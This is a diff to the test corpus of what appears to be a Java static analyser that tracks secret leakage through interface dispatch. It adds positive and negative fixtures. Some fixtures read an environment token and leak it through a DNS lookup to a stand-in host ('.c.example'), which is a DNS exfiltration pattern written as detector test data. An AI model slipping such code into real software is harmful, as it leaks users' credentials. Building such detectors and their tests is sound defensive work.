@@ -302,6 +302,62 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        add("dispatch to several implementations: argument", "interface dispatch", """
+                package PKG;
+                interface Channel {
+                    void send(String data) throws Exception;
+                }
+                """, """
+                package PKG;
+                class LogChannel implements Channel {
+                    @Override
+                    public void send(String data) {
+                        System.out.println(data.length());
+                    }
+                }
+                """, """
+                package PKG;
+                class DnsChannel implements Channel {
+                    @Override
+                    public void send(String data) throws Exception {
+                        java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Channel c) throws Exception {
+                        c.send(System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        add("dispatch to several implementations: result", "interface dispatch", """
+                package PKG;
+                interface Store {
+                    String get();
+                }
+                """, """
+                package PKG;
+                class EnvStore implements Store {
+                    public String get() {
+                        return System.getenv("TOKEN");
+                    }
+                }
+                """, """
+                package PKG;
+                class FixedStore implements Store {
+                    public String get() {
+                        return "fixed";
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Store s) throws Exception {
+                        java.net.InetAddress.getByName(s.get()); // expect: EXFIL, from=EnvStore.java:4
+                    }
+                }
+                """);
         add("inheritance: template method", "inheritance", """
                 package PKG;
                 abstract class Base {
@@ -468,6 +524,35 @@ final class FlowCorpus {
     }
 
     private void negatives() {
+        add("dispatch: another call's argument", "negative: unrelated data", """
+                package PKG;
+                interface Format {
+                    String apply(String s);
+                }
+                """, """
+                package PKG;
+                class Same implements Format {
+                    public String apply(String s) {
+                        return s;
+                    }
+                }
+                """, """
+                package PKG;
+                class Upper implements Format {
+                    public String apply(String s) {
+                        return s.toUpperCase();
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Format fmt) throws Exception {
+                        fmt.apply(System.getenv("TOKEN"));
+                        String host = fmt.apply("public.example");
+                        java.net.InetAddress.getByName(host);
+                    }
+                }
+                """);
         viaSend("overwritten before the sink", "negative: overwritten", false, """
                 package PKG;
                 class A {
